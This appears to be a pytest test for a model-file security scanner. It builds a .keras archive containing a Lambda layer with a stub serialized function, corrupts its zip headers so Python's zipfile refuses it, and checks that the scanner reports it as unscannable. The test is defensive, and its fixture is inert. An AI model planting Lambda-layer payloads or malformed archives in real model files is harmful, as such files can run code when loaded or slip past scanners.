def _set_zip_field(data: bytes, local_at: int, central_at: int, value: int) -> bytes:
    raw = bytearray(data)
    for sig, at in ((b"PK\x03\x04", local_at), (b"PK\x01\x02", central_at)):
        pos = raw.find(sig)
        while pos >= 0:
            raw[pos + at] = value
            pos = raw.find(sig, pos + 4)
    return bytes(raw)


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param((6, 8, 1), id="encrypted flag (zipfile: RuntimeError)"),
        pytest.param((4, 6, 158), id="unknown zip version (zipfile: NotImplementedError)"),
    ],
)
def test_a_zip_that_zipfile_refuses_is_still_an_artifact_with_its_verdict(
    tmp_path: Path, damage: tuple[int, int, int]
) -> None:
    # The collector's own identification reads the zip with zipfile, which refuses these members.
    # The file must still be inventoried, with the scanner's verdict: unscannable, failing closed
    # (Keras reads .keras files with zipfile too, so it could not load them either).
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        lam = {"class_name": "Lambda", "config": {"function": ["4wEAAAAAAAAA", None, None]}}
        zf.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": [lam]}}))
        zf.writestr("metadata.json", "{}")
    place(tmp_path, "m.keras", _set_zip_field(buf.getvalue(), *damage))
    result = model_scan(tmp_path)
    (asset,) = [a for a in result.assets if a.name == "m.keras"]
    assert asset.properties["format"] == "keras" and asset.properties["header_valid"] is False
    assert asset.properties["safety"]["verdict"] == "unscannable"  # type: ignore[index]
    assert [e.path for e in result.errors] == ["m.keras"]  # and zipfile's refusal is on record
